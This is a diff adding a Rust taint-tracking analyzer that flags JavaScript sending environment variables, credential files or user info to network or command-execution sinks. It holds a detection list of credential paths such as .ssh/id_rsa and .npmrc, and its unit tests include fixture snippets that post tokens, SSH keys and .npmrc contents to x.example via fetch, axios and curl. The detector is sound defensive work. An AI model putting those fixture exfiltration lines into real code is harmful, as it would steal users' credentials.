@@ -0,0 +1,915 @@
+// Intra-file taint tracking using oxc
+// Follows sensitive data (environment variables, credential files, user info)
+// through assignments, object literals, template strings and function calls,
+// and reports it only when it reaches a network or command-execution sink.
+
+use oxc_ast::ast::*;
+use oxc_ast_visit::walk;
+use oxc_ast_visit::Visit;
+use oxc_span::GetSpan;
+use std::collections::{BTreeMap, HashMap, HashSet};
+
+use crate::security::{DataFlowStep, IssueSeverity, SourceCodeIssue};
+
+/// Passes over the file before giving up on reaching a fixed point
+const MAX_PASSES: usize = 5;
+
+/// Longest source→sink path kept for a finding
+const MAX_FLOW_LEN: usize = 16;
+
+/// Path fragments that make a file read a credential read
+const CREDENTIAL_MARKERS: &[&str] = &[
+    ".ssh",
+    "id_rsa",
+    "id_ed25519",
+    ".aws",
+    ".npmrc",
+    ".netrc",
+    ".git-credentials",
+    ".docker/config.json",
+    ".kube/config",
+    ".gnupg",
+    ".bash_history",
+    ".zsh_history",
+    "gcloud",
+    "credentials",
+];
+
+/// Calls that send their arguments over the network
+pub(crate) const NETWORK_SINKS: &[&str] = &[
+    "fetch",
+    "axios",
+    "got",
+    "request",
+    "needle",
+    "http.request",
+    "http.get",
+    "https.request",
+    "https.get",
+    "http2.connect",
+    "net.connect",
+    "net.createConnection",
+    "tls.connect",
+    "dns.lookup",
+    "dns.resolve",
+    "dns.resolve4",
+    "dns.resolve6",
+    "dns.resolveTxt",
+    "dns.promises.lookup",
+    "dns.promises.resolve",
+    "navigator.sendBeacon",
+    "undici.request",
+    "undici.fetch",
+];
+
+/// HTTP clients where every method is a request
+pub(crate) const NETWORK_CLIENTS: &[&str] = &["axios", "got", "needle", "superagent", "request"];
+
+/// Constructors returning a connection whose `write`/`end`/`send` are sinks
+pub(crate) const NETWORK_CONSTRUCTORS: &[&str] = &["XMLHttpRequest", "WebSocket"];
+
+const HANDLE_METHODS: &[&str] = &["write", "end", "send"];
+
+/// Calls that execute their arguments as code or commands
+pub(crate) const EXEC_SINKS: &[&str] = &[
+    "child_process.exec",
+    "child_process.execSync",
+    "child_process.spawn",
+    "child_process.spawnSync",
+    "child_process.execFile",
+    "child_process.execFileSync",
+    "child_process.fork",
+    "eval",
+    "vm.runInThisContext",
+    "vm.runInNewContext",
+    "vm.runInContext",
+];
+
+pub(crate) const EXEC_CONSTRUCTORS: &[&str] = &["Function", "vm.Script"];
+
+/// Steps from the source to the current expression
+type Flow = Vec<DataFlowStep>;
+
+/// `require('node:fs/promises')` -> `fs.promises`
+pub(crate) fn required_module(call: &CallExpression<'_>) -> Option<String> {
+    let Expression::Identifier(ident) = &call.callee else {
+        return None;
+    };
+    if ident.name != "require" {
+        return None;
+    }
+    match call.arguments.first() {
+        Some(Argument::StringLiteral(lit)) => Some(module_path(&lit.value)),
+        _ => None,
+    }
+}
+
+pub(crate) fn module_path(specifier: &str) -> String {
+    specifier.trim_start_matches("node:").replace('/', ".")
+}
+
+/// Does a path argument point at credentials (`~/.ssh/id_rsa`, `.npmrc`)?
+pub(crate) fn is_credential_path(expr: &Expression<'_>) -> bool {
+    let mut text = String::new();
+    collect_literals(expr, &mut text);
+    CREDENTIAL_MARKERS
+        .iter()
+        .any(|marker| text.contains(marker))
+}
+
+fn collect_literals(expr: &Expression<'_>, text: &mut String) {
+    match expr.get_inner_expression() {
+        Expression::StringLiteral(lit) => {
+            text.push_str(&lit.value);
+            text.push('/');
+        }
+        Expression::TemplateLiteral(template) => {
+            for quasi in &template.quasis {
+                text.push_str(&quasi.value.raw);
+            }
+            text.push('/');
+        }
+        Expression::BinaryExpression(binary) => {
+            collect_literals(&binary.left, text);
+            collect_literals(&binary.right, text);
+        }
+        // path.join(os.homedir(), '.ssh', 'id_rsa')
+        Expression::CallExpression(call) => {
+            for arg in &call.arguments {
+                if let Some(arg) = arg.as_expression() {
+                    collect_literals(arg, text);
+                }
+            }
+        }
+        _ => {}
+    }
+}
+
+pub(crate) fn is_file_read(name: &str) -> bool {
+    name == "readFileSync"
+        || name == "readFile"
+        || name.ends_with(".readFileSync")
+        || name.ends_with(".readFile")
+}
+
+/// Local names bound to modules by `require`/`import`
+#[derive(Debug, Default)]
+pub(crate) struct ModuleAliases {
+    names: HashMap<String, String>,
+}
+
+impl ModuleAliases {
+    /// Returns false if `name` was already bound
+    pub(crate) fn insert(&mut self, name: String, target: String) -> bool {
+        if self.names.contains_key(&name) {
+            return false;
+        }
+        self.names.insert(name, target);
+        true
+    }
+
+    /// Bind the local names of an `import` declaration
+    pub(crate) fn record_import(&mut self, decl: &ImportDeclaration<'_>) -> bool {
+        let module = module_path(&decl.source.value);
+        let mut changed = false;
+        for specifier in decl.specifiers.iter().flatten() {
+            changed |= match specifier {
+                ImportDeclarationSpecifier::ImportSpecifier(s) => self.insert(
+                    s.local.name.to_string(),
+                    format!("{}.{}", module, s.imported.name()),
+                ),
+                ImportDeclarationSpecifier::ImportDefaultSpecifier(s) => {
+                    self.insert(s.local.name.to_string(), module.clone())
+                }
+                ImportDeclarationSpecifier::ImportNamespaceSpecifier(s) => {
+                    self.insert(s.local.name.to_string(), module.clone())
+                }
+            };
+        }
+        changed
+    }
+
+    /// `const cp = require('child_process')` /
+    /// `const { exec } = require('child_process')`
+    pub(crate) fn record_require(
+        &mut self,
+        id: &BindingPattern<'_>,
+        init: &Expression<'_>,
+    ) -> bool {
+        let Expression::CallExpression(call) = init.get_inner_expression() else {
+            return false;
+        };
+        let Some(module) = required_module(call) else {
+            return false;
+        };
+        match id {
+            BindingPattern::BindingIdentifier(ident) => self.insert(ident.name.to_string(), module),
+            BindingPattern::ObjectPattern(object) => {
+                let mut changed = false;
+                for property in &object.properties {
+                    if let (Some(key), BindingPattern::BindingIdentifier(ident)) =
+                        (property.key.static_name(), &property.value)
+                    {
+                        changed |=
+                            self.insert(ident.name.to_string(), format!("{}.{}", module, key));
+                    }
+                }
+                changed
+            }
+            _ => false,
+        }
+    }
+
+    /// Dotted name an expression refers to, with local aliases resolved
+    /// (`cp.exec` -> `child_process.exec`).
+    pub(crate) fn qualify(&self, expr: &Expression<'_>) -> Option<String> {
+        match expr.get_inner_expression() {
+            Expression::Identifier(ident) => Some(
+                self.names
+                    .get(ident.name.as_str())
+                    .cloned()
+                    .unwrap_or_else(|| ident.name.to_string()),
+            ),
+            Expression::StaticMemberExpression(member) => self
+                .qualify(&member.object)
+                .map(|object| format!("{}.{}", object, member.property.name)),
+            Expression::ComputedMemberExpression(member) => match &member.expression {
+                Expression::StringLiteral(lit) => self
+                    .qualify(&member.object)
+                    .map(|object| format!("{}.{}", object, lit.value)),
+                _ => None,
+            },
+            Expression::CallExpression(call) => required_module(call),
+            Expression::SequenceExpression(seq) => {
+                seq.expressions.last().and_then(|last| self.qualify(last))
+            }
+            _ => None,
+        }
+    }
+}
+
+#[derive(Debug, Clone, Copy, PartialEq)]
+enum SinkKind {
+    Network,
+    Exec,
+}
+
+impl SinkKind {
+    fn issue_type(self) -> &'static str {
+        match self {
+            SinkKind::Network => "tainted_network_request",
+            SinkKind::Exec => "tainted_command_execution",
+        }
+    }
+}
+
+/// Taint-tracking AST visitor. Variables are tracked by name across the
+/// whole file; taint is only ever added, so repeated passes converge.
+pub struct TaintVisitor<'s> {
+    filepath: String,
+    source_text: &'s str,
+    line_starts: Vec<usize>,
+    /// Local name -> module path it refers to (`cp` -> `child_process`)
+    aliases: ModuleAliases,
+    tainted: HashMap<String, Flow>,
+    /// Local functions whose return value is tainted
+    returns: HashMap<String, Flow>,
+    /// Local functions -> binding names of each positional parameter
+    functions: HashMap<String, Vec<Vec<String>>>,
+    /// Variables holding an open request or connection
+    network_handles: HashSet<String>,
+    current_function: Vec<String>,
+    /// Keyed by sink position so later passes don't duplicate findings
+    findings: BTreeMap<u32, SourceCodeIssue>,
+    changed: bool,
+}
+
+impl<'s> TaintVisitor<'s> {
+    pub fn new(filepath: String, source_text: &'s str) -> Self {
+        let line_starts = std::iter::once(0)
+            .chain(source_text.match_indices('\n').map(|(i, _)| i + 1))
+            .collect();
+        Self {
+            filepath,
+            source_text,
+            line_starts,
+            aliases: ModuleAliases::default(),
+            tainted: HashMap::new(),
+            returns: HashMap::new(),
+            functions: HashMap::new(),
+            network_handles: HashSet::new(),
+            current_function: Vec::new(),
+            findings: BTreeMap::new(),
+            changed: false,
+        }
+    }
+
+    /// Findings, in source order
+    pub fn into_issues(self) -> Vec<SourceCodeIssue> {
+        self.findings.into_values().collect()
+    }
+
+    fn line_number(&self, offset: u32) -> usize {
+        self.line_starts
+            .partition_point(|&start| start <= offset as usize)
+    }
+
+    fn snippet(&self, span: Span) -> String {
+        let text = self
+            .source_text
+            .get(span.start as usize..span.end as usize)
+            .unwrap_or_default();
+        let text = text.split_whitespace().collect::<Vec<_>>().join(" ");
+        if text.chars().count() > 120 {
+            format!("{}...", text.chars().take(120).collect::<String>())
+        } else {
+            text
+        }
+    }
+
+    fn step(&self, span: Span, description: String) -> DataFlowStep {
+        DataFlowStep {
+            line_number: self.line_number(span.start),
+            code: self.snippet(span),
+            description,
+        }
+    }
+
+    fn extend(&self, mut flow: Flow, span: Span, description: String) -> Flow {
+        if flow.len() < MAX_FLOW_LEN {
+            flow.push(self.step(span, description));
+        }
+        flow
+    }
+
+    fn insert_once<V>(map: &mut HashMap<String, V>, key: String, value: V) -> bool {
+        if map.contains_key(&key) {
+            return false;
+        }
+        map.insert(key, value);
+        true
+    }
+
+    fn taint(&mut self, name: String, flow: Flow) {
+        self.changed |= Self::insert_once(&mut self.tainted, name, flow);
+    }
+
+    fn qualify(&self, expr: &Expression<'_>) -> Option<String> {
+        self.aliases.qualify(expr)
+    }
+
+    /// Source of sensitive data, if `call` reads some
+    fn call_source(&self, call: &CallExpression<'_>) -> Option<Flow> {
+        let name = self.qualify(&call.callee)?;
+        let description = if name == "os.userInfo" {
+            "source: current user info".to_string()
+        } else if is_file_read(&name)
+            && call
+                .arguments
+                .first()
+                .and_then(|arg| arg.as_expression())
+                .is_some_and(is_credential_path)
+        {
+            "source: reads a credential file".to_string()
+        } else {
+            return None;
+        };
+        Some(vec![self.step(call.span, description)])
+    }
+
+    fn member_taint(&self, member: &MemberExpression<'_>) -> Option<Flow> {
+        let span = member.span();
+        if let Some(name) = self.qualify_member(member) {
+            if name == "process.env" || name.starts_with("process.env.") {
+                return Some(vec![
+                    self.step(span, "source: reads environment variables".to_string())
+                ]);
+            }
+        }
+        self.expr_taint(member.object())
+    }
+
+    fn qualify_member(&self, member: &MemberExpression<'_>) -> Option<String> {
+        let object = self.qualify(member.object())?;
+        match member {
+            MemberExpression::StaticMemberExpression(m) => {
+                Some(format!("{}.{}", object, m.property.name))
+            }
+            MemberExpression::ComputedMemberExpression(m) => match &m.expression {
+                Expression::StringLiteral(lit) => Some(format!("{}.{}", object, lit.value)),
+                // process.env[name] still reads the environment
+                _ => Some(format!("{}.*", object)),
+            },
+            MemberExpression::PrivateFieldExpression(_) => None,
+        }
+    }
+
+    fn call_taint(&self, call: &CallExpression<'_>) -> Option<Flow> {
+        if let Some(flow) = self.call_source(call) {
+            return Some(flow);
+        }
+        if let Expression::Identifier(ident) = call.callee.get_inner_expression() {
+            if let Some(flow) = self.returns.get(ident.name.as_str()) {
+                return Some(self.extend(
+                    flow.clone(),
+                    call.span,
+                    format!("returned by {}()", ident.name),
+                ));
+            }
+        }
+        // Transformations keep the taint: JSON.stringify(x), x.toString('base64')
+        if let Some(member) = call.callee.get_inner_expression().as_member_expression() {
+            if let Some(flow) = self.expr_taint(member.object()) {
+                return Some(flow);
+            }
+        }
+        self.arguments_taint(&call.arguments)
+    }
+
+    fn arguments_taint(&self, arguments: &[Argument<'_>]) -> Option<Flow> {
+        arguments.iter().find_map(|arg| match arg {
+            Argument::SpreadElement(spread) => self.expr_taint(&spread.argument),
+            _ => arg.as_expression().and_then(|expr| self.expr_taint(expr)),
+        })
+    }
+
+    /// Path from a source to `expr`, if `expr` carries sensitive data
+    fn expr_taint(&self, expr: &Expression<'_>) -> Option<Flow> {
+        match expr.get_inner_expression() {
+            Expression::Identifier(ident) => self.tainted.get(ident.name.as_str()).cloned(),
+            Expression::CallExpression(call) => self.call_taint(call),
+            Expression::NewExpression(new_expr) => self.arguments_taint(&new_expr.arguments),
+            Expression::TemplateLiteral(template) => template
+                .expressions
+                .iter()
+                .find_map(|expr| self.expr_taint(expr)),
+            Expression::TaggedTemplateExpression(tagged) => tagged
+                .quasi
+                .expressions
+                .iter()
+                .find_map(|expr| self.expr_taint(expr)),
+            // Comparisons only leak a boolean
+            Expression::BinaryExpression(binary)
+                if binary.operator.is_equality() || binary.operator.is_compare() =>
+            {
+                None
+            }
+            Expression::BinaryExpression(binary) => self
+                .expr_taint(&binary.left)
+                .or_else(|| self.expr_taint(&binary.right)),
+            Expression::LogicalExpression(logical) => self
+                .expr_taint(&logical.left)
+                .or_else(|| self.expr_taint(&logical.right)),
+            Expression::ConditionalExpression(conditional) => self
+                .expr_taint(&conditional.consequent)
+                .or_else(|| self.expr_taint(&conditional.alternate)),
+            Expression::ObjectExpression(object) => {
+                object
+                    .properties
+                    .iter()
+                    .find_map(|property| match property {
+                        ObjectPropertyKind::ObjectProperty(p) => self.expr_taint(&p.value),
+                        ObjectPropertyKind::SpreadProperty(spread) => {
+                            self.expr_taint(&spread.argument)
+                        }
+                    })
+            }
+            Expression::ArrayExpression(array) => {
+                array.elements.iter().find_map(|element| match element {
+                    ArrayExpressionElement::SpreadElement(spread) => {
+                        self.expr_taint(&spread.argument)
+                    }
+                    ArrayExpressionElement::Elision(_) => None,
+                    _ => element.as_expression().and_then(|e| self.expr_taint(e)),
+                })
+            }
+            Expression::SequenceExpression(seq) => {
+                seq.expressions.last().and_then(|e| self.expr_taint(e))
+            }
+            Expression::AwaitExpression(await_expr) => self.expr_taint(&await_expr.argument),
+            Expression::AssignmentExpression(assign) => self.expr_taint(&assign.right),
+            Expression::ChainExpression(chain) => match &chain.expression {
+                ChainElement::CallExpression(call) => self.call_taint(call),
+                element => element
+                    .as_member_expression()
+                    .and_then(|member| self.member_taint(member)),
+            },
+            inner => inner
+                .as_member_expression()
+                .and_then(|member| self.member_taint(member)),
+        }
+    }
+
+    /// Every identifier a binding pattern introduces
+    fn binding_names(pattern: &BindingPattern<'_>, names: &mut Vec<String>) {
+        match pattern {
+            BindingPattern::BindingIdentifier(ident) => names.push(ident.name.to_string()),
+            BindingPattern::ObjectPattern(object) => {
+                for property in &object.properties {
+                    Self::binding_names(&property.value, names);
+                }
+                if let Some(rest) = &object.rest {
+                    Self::binding_names(&rest.argument, names);
+                }
+            }
+            BindingPattern::ArrayPattern(array) => {
+                for element in array.elements.iter().flatten() {
+                    Self::binding_names(element, names);
+                }
+                if let Some(rest) = &array.rest {
+                    Self::binding_names(&rest.argument, names);
+                }
+            }
+            BindingPattern::AssignmentPattern(assign) => Self::binding_names(&assign.left, names),
+        }
+    }
+
+    fn parameter_names(params: &FormalParameters<'_>) -> Vec<Vec<String>> {
+        params
+            .items
+            .iter()
+            .map(|param| {
+                let mut names = Vec::new();
+                Self::binding_names(&param.pattern, &mut names);
+                names
+            })
+            .collect()
+    }
+
+    fn record_function(&mut self, name: String, params: &FormalParameters<'_>) {
+        let params = Self::parameter_names(params);
+        self.changed |= Self::insert_once(&mut self.functions, name, params);
+    }
+
+    fn sink(&self, call: &CallExpression<'_>) -> Option<(SinkKind, String)> {
+        let callee = call.callee.get_inner_expression();
+        if let Some(member) = callee.as_member_expression() {
+            if let (Expression::Identifier(object), Some(method)) = (
+                member.object().get_inner_expression(),
+                member.static_property_name(),
+            ) {
+                if self.network_handles.contains(object.name.as_str())
+                    && HANDLE_METHODS.contains(&method)
+                {
+                    return Some((SinkKind::Network, format!("{}.{}", object.name, method)));
+                }
+            }
+        }
+
+        let name = self.qualify(callee)?;
+        if EXEC_SINKS.contains(&name.as_str()) {
+            return Some((SinkKind::Exec, name));
+        }
+        let is_client_call = NETWORK_CLIENTS.iter().any(|client| {
+            name.strip_prefix(client)
+                .is_some_and(|m| m.starts_with('.'))
+        });
+        if NETWORK_SINKS.contains(&name.as_str()) || is_client_call {
+            return Some((SinkKind::Network, name));
+        }
+        None
+    }
+
+    fn opens_connection(&self, expr: &Expression<'_>) -> bool {
+        match expr.get_inner_expression() {
+            Expression::CallExpression(call) => {
+                matches!(self.sink(call), Some((SinkKind::Network, _)))
+            }
+            Expression::NewExpression(new_expr) => self
+                .qualify(&new_expr.callee)
+                .is_some_and(|name| NETWORK_CONSTRUCTORS.contains(&name.as_str())),
+            Expression::AwaitExpression(await_expr) => self.opens_connection(&await_expr.argument),
+            _ => false,
+        }
+    }
+
+    fn report(&mut self, span: Span, kind: SinkKind, sink: &str, flow: Flow) {
+        if self.findings.contains_key(&span.start) {
+            return;
+        }
+        let source = flow
+            .first()
+            .map(|step| step.code.clone())
+            .unwrap_or_default();
+        let description = match kind {
+            SinkKind::Network => format!(
+                "Sensitive data from `{}` is sent over the network by {}",
+                source, sink
+            ),
+            SinkKind::Exec => format!(
+                "Sensitive data from `{}` reaches code/command execution in {}",
+                source, sink
+            ),
+        };
+        let mut data_flow = flow;
+        data_flow.push(self.step(span, format!("sink: {}", sink)));
+
+        self.findings.insert(
+            span.start,
+            SourceCodeIssue {
+                file_path: self.filepath.clone(),
+                line_number: self.line_number(span.start),
+                issue_type: kind.issue_type().to_string(),
+                description,
+                severity: IssueSeverity::Critical,
+                code_snippet: Some(self.snippet(span)),
+                data_flow,
+            },
+        );
+    }
+}
+
+impl<'a> Visit<'a> for TaintVisitor<'_> {
+    fn visit_import_declaration(&mut self, decl: &ImportDeclaration<'a>) {
+        self.changed |= self.aliases.record_import(decl);
+        walk::walk_import_declaration(self, decl);
+    }
+
+    fn visit_declaration(&mut self, decl: &Declaration<'a>) {
+        if let Declaration::FunctionDeclaration(func) = decl {
+            if let Some(id) = &func.id {
+                let name = id.name.to_string();
+                self.record_function(name.clone(), &func.params);
+                self.current_function.push(name);
+                walk::walk_declaration(self, decl);
+                self.current_function.pop();
+                return;
+            }
+        }
+        walk::walk_declaration(self, decl);
+    }
+
+    fn visit_variable_declarator(&mut self, decl: &VariableDeclarator<'a>) {
+        let Some(init) = &decl.init else {
+            walk::walk_variable_declarator(self, decl);
+            return;
+        };
+        let mut names = Vec::new();
+        Self::binding_names(&decl.id, &mut names);
+
+        self.changed |= self.aliases.record_require(&decl.id, init);
+
+        if self.opens_connection(init) {
+            for name in &names {
+                self.changed |= self.network_handles.insert(name.clone());
+            }
+        }
+
+        if let Some(flow) = self.expr_taint(init) {
+            for name in &names {
+                let flow = self.extend(flow.clone(), decl.span, format!("assigned to {}", name));
+                self.taint(name.clone(), flow);
+            }
+        }
+
+        // const send = (data) => ... / const send = function (data) { ... }
+        let function_params = match init.get_inner_expression() {
+            Expression::ArrowFunctionExpression(arrow) => Some(&arrow.params),
+            Expression::FunctionExpression(func) => Some(&func.params),
+            _ => None,
+        };
+        if let (Some(params), [name]) = (function_params, names.as_slice()) {
+            let name = name.clone();
+            self.record_function(name.clone(), params);
+            self.current_function.push(name);
+            walk::walk_variable_declarator(self, decl);
+            self.current_function.pop();
+            return;
+        }
+
+        walk::walk_variable_declarator(self, decl);
+    }
+
+    fn visit_assignment_expression(&mut self, expr: &AssignmentExpression<'a>) {
+        // x = ..., obj.prop = ... (the whole object becomes tainted)
+        let target = match &expr.left {
+            AssignmentTarget::AssignmentTargetIdentifier(ident) => Some(ident.name.to_string()),
+            left => left.as_member_expression().and_then(|member| {
+                let mut object = member.object();
+                while let Some(inner) = object.as_member_expression() {
+                    object = inner.object();
+                }
+                match object {
+                    Expression::Identifier(ident) => Some(ident.name.to_string()),
+                    _ => None,
+                }
+            }),
+        };
+
+        if let Some(name) = target {
+            if self.opens_connection(&expr.right) {
+                self.changed |= self.network_handles.insert(name.clone());
+            }
+            if let Some(flow) = self.expr_taint(&expr.right) {
+                let flow = self.extend(flow, expr.span, format!("stored in {}", name));
+                self.taint(name, flow);
+            }
+        }
+
+        walk::walk_assignment_expression(self, expr);
+    }
+
+    fn visit_return_statement(&mut self, stmt: &ReturnStatement<'a>) {
+        if let (Some(function), Some(argument)) = (self.current_function.last(), &stmt.argument) {
+            if let Some(flow) = self.expr_taint(argument) {
+                let function = function.clone();
+                let flow = self.extend(flow, stmt.span, format!("returned from {}()", function));
+                self.changed |= Self::insert_once(&mut self.returns, function, flow);
+            }
+        }
+        walk::walk_return_statement(self, stmt);
+    }
+
+    fn visit_call_expression(&mut self, call: &CallExpression<'a>) {
+        // Arguments flow into the parameters of functions defined in this file
+        if let Expression::Identifier(callee) = call.callee.get_inner_expression() {
+            if let Some(params) = self.functions.get(callee.name.as_str()).cloned() {
+                for (arg, names) in call.arguments.iter().zip(params) {
+                    let Some(flow) = arg.as_expression().and_then(|e| self.expr_taint(e)) else {
+                        continue;
+                    };
+                    for name in names {
+                        let flow = self.extend(
+                            flow.clone(),
+                            arg.span(),
+                            format!("passed to {}({})", callee.name, name),
+                        );
+                        self.taint(name, flow);
+                    }
+                }
+            }
+        }
+
+        // fs.readFile('~/.npmrc', (err, data) => ...) hands the secret to the callback
+        if let Some(flow) = self.call_source(call) {
+            let callback = call.arguments.last().and_then(|arg| arg.as_expression());
+            let params = match callback.map(|e| e.get_inner_expression()) {
+                Some(Expression::ArrowFunctionExpression(arrow)) => Some(&arrow.params),
+                Some(Expression::FunctionExpression(func)) => Some(&func.params),
+                _ => None,
+            };
+            if let Some(names) = params.and_then(|p| Self::parameter_names(p).into_iter().nth(1)) {
+                for name in names {
+                    let flow = self.extend(
+                        flow.clone(),
+                        call.span,
+                        format!("passed to callback as {}", name),
+                    );
+                    self.taint(name, flow);
+                }
+            }
+        }
+
+        if let Some((kind, sink)) = self.sink(call) {
+            if let Some(flow) = self.arguments_taint(&call.arguments) {
+                self.report(call.span, kind, &sink, flow);
+            }
+        }
+
+        walk::walk_call_expression(self, call);
+    }
+
+    fn visit_new_expression(&mut self, expr: &NewExpression<'a>) {
+        if let Some(name) = self.qualify(&expr.callee) {
+            if EXEC_CONSTRUCTORS.contains(&name.as_str()) {
+                if let Some(flow) = self.arguments_taint(&expr.arguments) {
+                    self.report(expr.span, SinkKind::Exec, &format!("new {}", name), flow);
+                }
+            }
+        }
+        walk::walk_new_expression(self, expr);
+    }
+}
+
+/// Run taint tracking over a parsed program until no new taint appears.
+pub fn analyze_program(
+    program: &Program<'_>,
+    source_text: &str,
+    filepath: String,
+) -> Vec<SourceCodeIssue> {
+    let mut visitor = TaintVisitor::new(filepath, source_text);
+    for _ in 0..MAX_PASSES {
+        visitor.changed = false;
+        visitor.visit_program(program);
+        if !visitor.changed {
+            break;
+        }
+    }
+    visitor.into_issues()
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::ast_security_analyzer::analyze_js_source;
+    use crate::security::SourceCodeIssue;
+
+    fn tainted(code: &str) -> Vec<SourceCodeIssue> {
+        analyze_js_source(code, "test.js".to_string())
+            .unwrap()
+            .into_iter()
+            .filter(|issue| issue.issue_type.starts_with("tainted_"))
+            .collect()
+    }
+
+    #[test]
+    fn env_through_object_and_template_reaches_https() {
+        let code = r#"
+            const https = require('https');
+            const token = process.env.NPM_TOKEN;
+            const payload = { t: token, host: require('os').hostname() };
+            const body = `data=${JSON.stringify(payload)}`;
+            const req = https.request({ host: 'x.example', method: 'POST' });
+            req.write(body);
+        "#;
+
+        let issues = tainted(code);
+        assert_eq!(issues.len(), 1);
+        let issue = &issues[0];
+        assert_eq!(issue.issue_type, "tainted_network_request");
+        assert_eq!(issue.line_number, 7);
+
+        let lines: Vec<usize> = issue.data_flow.iter().map(|s| s.line_number).collect();
+        assert_eq!(lines, vec![3, 3, 4, 5, 7]);
+        assert_eq!(issue.data_flow[0].code, "process.env.NPM_TOKEN");
+        assert_eq!(issue.data_flow[4].description, "sink: req.write");
+    }
+
+    #[test]
+    fn taint_follows_function_arguments_and_returns() {
+        let code = r#"
+            function collect() {
+                return { user: os.userInfo(), env: process.env };
+            }
+            function send(data) {
+                fetch('https://x.example/c', { method: 'POST', body: JSON.stringify(data) });
+            }
+            send(collect());
+        "#;
+
+        let issues = tainted(code);
+        assert_eq!(issues.len(), 1);
+        let descriptions: Vec<&str> = issues[0]
+            .data_flow
+            .iter()
+            .map(|s| s.description.as_str())
+            .collect();
+        assert_eq!(
+            descriptions,
+            vec![
+                "source: current user info",
+                "returned from collect()",
+                "returned by collect()",
+                "passed to send(data)",
+                "sink: fetch",
+            ]
+        );
+    }
+
+    #[test]
+    fn credential_file_into_exec_is_reported() {
+        let code = r#"
+            const { execSync } = require('child_process');
+            const fs = require('fs');
+            const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
+            execSync('curl -d ' + npmrc + ' https://x.example');
+        "#;
+
+        let issues = tainted(code);
+        assert_eq!(issues.len(), 1);
+        assert_eq!(issues[0].issue_type, "tainted_command_execution");
+        assert_eq!(
+            issues[0].data_flow[0].description,
+            "source: reads a credential file"
+        );
+    }
+
+    #[test]
+    fn readfile_callback_data_is_tainted() {
+        let code = r#"
+            import { readFile } from 'fs';
+            import axios from 'axios';
+            readFile('/home/u/.ssh/id_rsa', (err, key) => {
+                axios.post('https://x.example', key);
+            });
+        "#;
+
+        let issues = tainted(code);
+        assert_eq!(issues.len(), 1);
+        assert_eq!(issues[0].issue_type, "tainted_network_request");
+    }
+
+    #[test]
+    fn untainted_sinks_and_unsent_sources_are_ignored() {
+        let code = r#"
+            const cp = require('child_process');
+            const debug = process.env.DEBUG === '1';
+            if (debug) console.log(process.env.HOME);
+            cp.exec('npm run build');
+            fetch('https://registry.npmjs.org/left-pad');
+            const config = fs.readFileSync('./config.json');
+            fetch('https://x.example', { body: config });
+        "#;
+
+        assert!(tainted(code).is_empty());
+    }
+}